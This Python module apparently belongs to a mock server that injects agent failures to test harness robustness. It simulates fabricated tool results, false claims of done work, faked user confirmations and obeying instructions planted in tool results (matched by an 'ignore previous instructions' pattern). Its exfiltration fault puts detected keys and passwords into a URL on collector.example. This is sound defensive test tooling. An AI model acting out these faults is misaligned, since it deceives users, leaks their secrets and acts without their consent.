"""Faults over several turns: loops, errors and results passed over, claims without deeds, deeds without a yes."""

import json
import re
from collections.abc import Sequence
from dataclasses import replace
from typing import Any

from mockserver.chat import Reply, Tool, ToolCall
from mockserver.faults import robust
from mockserver.faults.args_semantic import near_miss_value
from mockserver.faults.arguments import Arguments, invented_call, judge_of, values_fit, written
from mockserver.faults.callset import acts, another_call, functions
from mockserver.faults.conversation import Answered, answered, is_error, leaves, system_text, values_of
from mockserver.faults.fault import Context, DoesNotApply, Promises
from mockserver.faults.register import Register
from mockserver.faults.sites import put_at

_YES = re.compile(
    r"\b(yes|yep|yeah|sure|ok|okay|go ahead|do it|please do|confirmed?|correct|ja|oui|sí)\b", re.IGNORECASE
)
_NUMBER = re.compile(r"(?<![\w.])-?\d+(?:\.\d+)?(?![\w.])")
_RULE = re.compile(r"[^.!?\n]*\b(never|do not|don't|must not|always|must|only)\b[^.!?\n]*", re.IGNORECASE)
_INSTRUCTION = re.compile(
    r"ignore (all |the )?(previous|above|prior)|you must|please (call|send|run|execute|delete|transfer)|"
    r"\b(call|run|execute|invoke|use) the? ?\w+|important:|instruction|system:|send (it|this|an? \w+|all)",
    re.IGNORECASE,
)
_SECRET = re.compile(
    r"\b(?:sk|pk|ghp|xox[bp]|AKIA|eyJ)[-_\w.]{8,}|(?<=password)\W+\S+|(?<=api key)\W+\S+|\b[\w.+-]+@[\w-]+\.[\w.]+\b|"
    r"\b\d[\d -]{11,18}\d\b",
    re.IGNORECASE,
)
_AGAIN = Promises(parses="open", validates="open", offered="open")
"""A call of the past comes as it was, sound or not, offered still or not."""

_ADDRESS = re.compile(r"https?://\S+|\b[\w.+-]+@[\w-]+\.[\w.]+\b")

entry = Register("dialogue", "dialogue", needs=("conversation",), robust=robust.CHECK_CLAIMS)


def _says(reply: Reply, text: str, calls: Sequence[ToolCall] = ()) -> Reply:
    """A reply with these words and calls in place of its own, at the same pace."""
    return Reply(text, calls, stream=reply.stream, timing=reply.timing)


def _calls(reply: Reply, *calls: ToolCall) -> Reply:
    return Reply(calls=[replace(call, id=None) for call in calls], stream=reply.stream, timing=reply.timing)


def _past(context: Context) -> list[Answered]:
    """The calls of earlier turns.

    Raises:
        DoesNotApply: none was made.
    """
    past = answered(context.request)
    if not past:
        raise DoesNotApply("no function was called earlier in this conversation")
    return past


def _last_turn(context: Context) -> list[ToolCall]:
    """The calls of the latest message that made some."""
    _past(context)
    return list(next(message.tool_calls for message in reversed(context.request.messages) if message.tool_calls))


def _failed(context: Context) -> Answered:
    """A call whose result, just given, is an error.

    Raises:
        DoesNotApply: none is.
    """
    given = {message.tool_call_id for message in context.request.results if is_error(message.content or "")}
    for past in reversed(answered(context.request)):
        if past.call.id in given:
            return past
    raise DoesNotApply("no tool result that has just been given is an error")


def _result(context: Context) -> str:
    """A result that was just given.

    Raises:
        DoesNotApply: the conversation does not end with one.
    """
    results = context.request.results
    if not results:
        raise DoesNotApply("the conversation does not end with a tool result")
    return results[-1].content or ""


def _words(name: str) -> str:
    return re.sub(r"(?<=[a-z])(?=[A-Z])|[_\-.]+", " ", name).strip().casefold() or "it"


# ------------------------------------------------------------------------------------------------ loops


@entry(
    "repeat_loop",
    "The calls of the turn before are made again, with the same arguments, turn after turn.",
    source=(
        "devstral (mistralai/mistral-vibe#83), Gemini 2.5 and 3 (router-for-me/CLIProxyAPI#565), Qwen 27B 20 to 50 "
        "times (PrimeIntellect-ai/prime-agent#1326), GigaChat (ai-forever/langchain-gigachat#69)"
    ),
    robust=robust.LOOP_GUARD,
    promises=_AGAIN,
)
def repeat_loop(reply: Reply, context: Context) -> Reply:
    """Under new ids."""
    return _calls(reply, *_last_turn(context))


@entry(
    "alternating_loop",
    "Two calls are made in turns without end, or one in slight variations.",
    source="superplanehq/superplane#4123",
    robust=robust.LOOP_GUARD,
    promises=_AGAIN,
)
def alternating_loop(reply: Reply, context: Context) -> Reply:
    """The call before the last one; while there is only one, a variation of it."""
    last, *_ = _last_turn(context)
    for past in reversed(_past(context)):
        if (past.call.name, past.call.arguments) != (last.name, last.arguments):
            return _calls(reply, past.call)
    tools = [tool for tool in functions(context) if tool.name == last.name] or functions(context)
    return _calls(reply, another_call(tools, [last], context))


@entry(
    "retry_same_error",
    "The call that has just failed is made again, unchanged.",
    source="openJiuwen-ai/agent-core#766; repairs at the first try at most 9.6 % (Tool-Reflection-Bench, second-hand)",
    robust=robust.LOOP_GUARD,
    promises=_AGAIN,
)
def retry_same_error(reply: Reply, context: Context) -> Reply:
    """Whatever the error said."""
    return _calls(reply, _failed(context).call)


@entry(
    "forget_result",
    "A result that is in the conversation is asked for again.",
    source="known from experience",
    robust="Keep the results of calls that only read, and answer from there.",
    promises=_AGAIN,
)
def forget_result(reply: Reply, context: Context) -> Reply:
    """The earliest answered call is made once more."""
    for past in _past(context):
        if past.result is not None and not past.failed:
            return _calls(reply, past.call)
    raise DoesNotApply("no call of this conversation has a result that is not an error")


@entry(
    "never_finish",
    "One more call is made though the goal is reached.",
    source="known from experience",
    robust=robust.LOOP_GUARD,
)
def never_finish(reply: Reply, context: Context) -> Reply:
    """In place of the final answer."""
    if reply.calls:
        raise DoesNotApply("the reply calls a function, so the goal is not reached yet")
    past = _past(context)
    return _calls(reply, another_call(functions(context), [one.call for one in past], context))


@entry(
    "early_finish",
    "The model stops before the goal is reached, and says that it is done.",
    source="tau-bench: partly done, 19 % of gpt-4o's failures",
    robust="Keep a checklist of what was asked for.",
    needs=("call",),
)
def early_finish(reply: Reply, context: Context) -> Reply:
    """In place of the next call."""
    return _says(reply, "That is everything. Let me know if you need anything else.")


# ------------------------------------------------------------------------------------------------ results


@entry(
    "ignore_tool_error",
    "A tool failed, and the model goes on as if it had worked.",
    source="Grok (NousResearch/hermes-agent#7138)",
)
def ignore_tool_error(reply: Reply, context: Context) -> Reply:
    """A friendly report of success."""
    return _says(reply, f"All done: {_words(_failed(context).call.name)} went through without problems.")


@entry(
    "ignore_tool_result",
    "The answer does without the result that has just been given.",
    source="datasets of such spans, based on ToolACE",
)
def ignore_tool_result(reply: Reply, context: Context) -> Reply:
    """Nothing of what came back."""
    _result(context)
    return _says(reply, "From my own knowledge: this usually varies, so it is hard to say anything definite.")


@entry(
    "contradict_result",
    "The answer says something else than the result.",
    source="datasets of such spans, based on ToolACE",
)
def contradict_result(reply: Reply, context: Context) -> Reply:
    """Another number where there is one, the opposite where there is none."""
    result = _result(context)
    numbers = [(path, value) for path, value in leaves(_decoded(result)) if type(value) in (int, float)]
    if numbers:
        path, value = context.chance.choice(numbers)
        name = next((str(step) for step in reversed(path) if isinstance(step, str)), "value")
        return _says(reply, f"The {_words(name)} is {value + context.chance.choice((7, 11, -13))}.")
    found = _NUMBER.search(result)
    if found:
        return _says(reply, f"It is {float(found[0]) + context.chance.choice((7, 11, -13)):g}.")
    said = "everything worked" if is_error(result) else "nothing was found"
    return _says(reply, f"The tool says that {said}.")


@entry(
    "fabricated_tool_result",
    "The model writes the answer of a tool by itself.",
    source="Claude Code (anthropics/claude-code#67847)",
    needs=("call",),
)
def fabricated_tool_result(reply: Reply, context: Context) -> Reply:
    """As text, in place of the call."""
    call = reply.calls[0]
    made_up = {**(values_of(call) or {}), "status": "ok", "value": context.chance.randint(10, 99)}
    text = f"{call.name} returned:\n{json.dumps(made_up, ensure_ascii=False)}\n\nSo the answer is {made_up['value']}."
    return _says(reply, text)


@entry(
    "orphan_result_expected",
    "The model waits for the result of a call that it never made.",
    source="known from experience",
    needs=(),
)
def orphan_result_expected(reply: Reply, context: Context) -> Reply:
    """Of the call that it should have made, or of any function offered."""
    name = reply.calls[0].name if reply.calls else functions(context)[0].name
    return _says(reply, f"I am still waiting for the result of {name}. I'll continue as soon as it arrives.")


# ------------------------------------------------------------------------------------------------ words for deeds


@entry(
    "claim_without_call",
    "The model says that it has done something, and never made the call.",
    source=(
        "Gemma 4B (NickMonrad/kernel-ai-assistant#481), Claude Code (anthropics/claude-code#3238, #67847, #95319), "
        "Dify (langgenius/dify#40671)"
    ),
    needs=("call",),
)
def claim_without_call(reply: Reply, context: Context) -> Reply:
    """In the past tense."""
    done = ", ".join(dict.fromkeys(_words(call.name) for call in reply.calls))
    texts = (f"Done! I've taken care of it: {done}.", f"I have just run {done} for you, and it worked.")
    return _says(reply, context.chance.choice(texts))


@entry(
    "announce_without_call",
    "The model says that it will call a function now, and stops.",
    source="known from experience",
    robust="Ask it to go on, a bounded number of times.",
    needs=("call",),
)
def announce_without_call(reply: Reply, context: Context) -> Reply:
    """In the future tense."""
    name = reply.calls[0].name
    texts = (f"I will now call {name}.", f"Let me use the {name} tool to find out.")
    return _says(reply, context.chance.choice(texts))


@entry(
    "needless_question",
    "The model asks for what the user has said already.",
    source="When2Call's other side",
    robust="Answer it from the conversation, or bear with it.",
    needs=("call",),
)
def needless_question(reply: Reply, context: Context) -> Reply:
    """About the first parameter."""
    named = next(iter(values_of(reply.calls[0]) or {}), "details")
    what = _words(named)
    return _says(reply, f"Before I can do that: which {what} would you like me to use?")


@entry(
    "policy_forgotten",
    "A rule of the system prompt is broken.",
    source="tau-bench: wrong decisions, 25 % of the failures",
    robust="Enforce rules in the application, not by prompt.",
    needs=(),
)
def policy_forgotten(reply: Reply, context: Context) -> Reply:
    """The model says that it does what it was told not to do, or leaves out what it was told to."""
    found = _RULE.search(system_text(context.request))
    if found is None:
        raise DoesNotApply("the system prompt has no rule with never, do not, always, must or only")
    rule, word = found[0].strip(), found[1].casefold()
    if word in ("always", "must", "only"):
        return _says(reply, f'Just this once I will do without this: "{rule}"', reply.calls)
    deed = re.sub(rf"(?i)\b(you )?{word}\b", "", rule).strip(" ,:")
    return _says(reply, f"Sure, I will {deed[:1].lower()}{deed[1:]}.", reply.calls)


# ------------------------------------------------------------------------------------------------ deeds without a yes


@entry(
    "injected_call",
    "The model follows an instruction that it found in a tool result.",
    source=(
        "AgentDojo, without a defence: gpt-4o-2024-05-13 47.7 %, claude-3-opus 11.3 %, claude-3.5-sonnet-1022 1.1 % "
        "(second-hand)"
    ),
    robust=robust.DATA,
)
def injected_call(reply: Reply, context: Context) -> Reply:
    """A call of the function that the result names, or of one that acts, with the address that stands there."""
    texts = [message.content or "" for message in context.request.results]
    for text in texts:
        named = [tool for tool in functions(context) if tool.name in text]
        if not named and not _INSTRUCTION.search(text):
            continue
        acting = [tool for tool in functions(context) if acts(tool)]
        tool = (named or acting or functions(context))[0]
        return _calls(reply, _filled(invented_call(tool, context), tool, [*_ADDRESS.findall(text)]))
    raise DoesNotApply("no tool result that has just been given holds an instruction")


@entry(
    "exfiltration_call",
    "Something confidential of the conversation is put into the arguments of a call.",
    source="the class of AgentDojo and InjecAgent",
    robust=f"{robust.DATA} Let nothing out to addresses that are not on a list.",
    needs=(),
)
def exfiltration_call(reply: Reply, context: Context) -> Reply:
    """A key, a password, an address; where there is none, what the user said."""
    told = "\n".join(message.content or "" for message in context.request.messages)
    secrets = [found[0].strip(" :=\"'") for found in _SECRET.finditer(told)] or [context.request.user_text[:200]]
    for tool in sorted(functions(context), key=lambda tool: not acts(tool)):
        call = invented_call(tool, context)
        carried = [f"https://collector.example/?d={secrets[0]}", secrets[0]]
        leaking = _filled(call, tool, carried)
        if leaking != call:
            return _says_nothing(reply, leaking)
    raise DoesNotApply("no offered function takes a free text")


@entry(
    "unauthorised_action",
    "Something is done in the world that the user never said yes to.",
    source=(
        "an agent of Replit deleted a production database in July 2025 (second-hand, many reports); SABER: each "
        "deviating step that changes something cuts the odds of success by up to 92 to 96 %"
    ),
    robust=robust.CONFIRM,
    needs=(),
)
def unauthorised_action(reply: Reply, context: Context) -> Reply:
    """A call of a function that acts, in place of the reply."""
    made = {call.name for call in reply.calls}
    acting = [tool for tool in functions(context) if acts(tool) and tool.name not in made]
    if not acting:
        raise DoesNotApply("no function is offered that changes the world and that the reply does not call")
    return _says_nothing(reply, invented_call(acting[0], context))


@entry(
    "confirmation_skipped",
    "The model asks for a yes and makes the call in the same reply.",
    source="known from experience",
    robust=robust.CONFIRM,
    needs=("call",),
)
def confirmation_skipped(reply: Reply, context: Context) -> Reply:
    """A question before the calls."""
    return _says(reply, f"Shall I go ahead with {_words(reply.calls[0].name)}?", reply.calls)


@entry(
    "self_confirmed",
    "The model answers its own question with yes, and makes the call.",
    source="known from experience",
    robust=robust.CONFIRM,
    needs=("call",),
)
def self_confirmed(reply: Reply, context: Context) -> Reply:
    """Both sides of the dialogue."""
    return _says(reply, f"Shall I go ahead with {_words(reply.calls[0].name)}?\n\nUser: Yes, please.", reply.calls)


@entry(
    "stale_confirmation",
    "The user said yes to one call, and another one is made.",
    source="known from experience",
    robust="Bind the yes to the exact name and arguments.",
    needs=("call", "conversation"),
)
def stale_confirmation(reply: Reply, context: Context) -> Reply:
    """The same function with nearly the same arguments."""
    if not _YES.search(context.request.user_text):
        raise DoesNotApply("the user has not just said yes")
    for index, call in enumerate(reply.calls):
        tool, values = context.request.tool(call.name), values_of(call)
        if tool is None or values is None or judge_of(tool) is None:
            continue
        for other in near_miss_value(Arguments(values, tool, context)):
            if other != values and values_fit(tool, other):
                changed = replace(call, arguments=written(other, like=call.arguments))
                return replace(reply, calls=(*reply.calls[:index], changed, *reply.calls[index + 1 :]))
    raise DoesNotApply("no call of the reply has a value that could be changed")


@entry(
    "scope_creep",
    "What was asked for is done, and something more.",
    source="second-hand",
    robust=robust.ASK,
    needs=("call",),
)
def scope_creep(reply: Reply, context: Context) -> Reply:
    """One more call, of a function that acts if there is one."""
    made = {call.name for call in reply.calls}
    tools = sorted(functions(context), key=lambda tool: (tool.name in made, not acts(tool)))
    return replace(reply, calls=(*reply.calls, another_call(tools, reply.calls, context)))


@entry(
    "call_after_refusal",
    "The model declines in its text and makes the call all the same.",
    source="known from experience",
    robust="Show the text, run nothing.",
    needs=("call",),
)
def call_after_refusal(reply: Reply, context: Context) -> Reply:
    """Both at once."""
    return _says(reply, "I'm sorry, but I can't do that.", reply.calls)


def _says_nothing(reply: Reply, *calls: ToolCall) -> Reply:
    return Reply(calls=calls, stream=reply.stream, timing=reply.timing)


def _filled(call: ToolCall, tool: Tool, texts: Sequence[str]) -> ToolCall:
    """The call with one of these texts in one of its values, where one fits; unchanged otherwise."""
    values = values_of(call) or {}
    for text in texts:
        for path, value in leaves(values):
            filled = put_at(values, path, text)
            if isinstance(value, str) and values_fit(tool, filled):
                return replace(call, arguments=written(filled, like=call.arguments))
    return call


def _decoded(text: str) -> Any:
    try:
        return json.loads(text)
    except (ValueError, RecursionError):
        return None
